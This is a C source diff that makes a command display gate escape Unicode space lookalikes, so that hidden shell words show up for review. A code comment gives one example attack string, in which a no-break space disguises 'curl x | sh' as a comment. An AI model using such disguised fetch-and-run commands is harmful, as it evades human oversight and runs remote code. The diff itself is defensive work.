@@ -99,7 +99,18 @@ int gate_hidden(uint32_t prev, uint32_t cp)
 	return utf8_is_invisible(cp) && !(cp == 0xfe0f && emoji_base(prev));
 }
 
-static char *visible(const char *str, size_t max, int keep_newline, int path)
+/* A character that draws as a blank and is not one to the shell: bash
+ * splits words at space, tab and newline only, so in a command a
+ * no-break or em space joins what it seems to part.  Shown as a blank,
+ * 'make\u00a0# comment; curl x | sh' reads as a comment and runs curl
+ * (a '#' starts a comment only at the start of a word). */
+static int blank_lookalike(uint32_t cp)
+{
+	return cp == 0x00a0 || cp == 0x1680 || (cp >= 0x2000 && cp <= 0x200a) || cp == 0x202f || cp == 0x205f ||
+	       cp == 0x2800 || cp == 0x3000;
+}
+
+static char *visible(const char *str, size_t max, int keep_newline, int path, int command)
 {
 	const unsigned char *s = (const unsigned char *)str;
 	size_t n = strlen(str), i = 0, shown = 0, cap = n * 4 + 64, len = 0;
@@ -120,7 +131,7 @@ static char *visible(const char *str, size_t max, int keep_newline, int path)
 		} else if ((cp == '\n' && keep_newline) || cp == '\t') {
 			out[len++] = (char)cp;
 			i++;
-		} else if (utf8_is_unsafe(cp) || gate_hidden(before, cp)) {
+		} else if (utf8_is_unsafe(cp) || gate_hidden(before, cp) || (command && blank_lookalike(cp))) {
 			if (cp < 0x80)
 				len += (size_t)snprintf(out + len, cap - len, "\\x%02x", (unsigned)cp);
 			else
@@ -139,17 +150,22 @@ static char *visible(const char *str, size_t max, int keep_newline, int path)
 
 char *gate_visible(const char *s, size_t max)
 {
-	return visible(s, max, 1, 0);
+	return visible(s, max, 1, 0, 0);
+}
+
+char *gate_visible_command(const char *s, size_t max)
+{
+	return visible(s, max, 1, 0, 1);
 }
 
 char *gate_visible_line(const char *s, size_t max)
 {
-	return visible(s, max, 0, 0);
+	return visible(s, max, 0, 0, 0);
 }
 
 char *gate_visible_path(const char *s, size_t max)
 {
-	return visible(s, max, 0, 1);
+	return visible(s, max, 0, 1, 0);
 }
 
 /* ---- diff ---------------------------------------------------------------- */
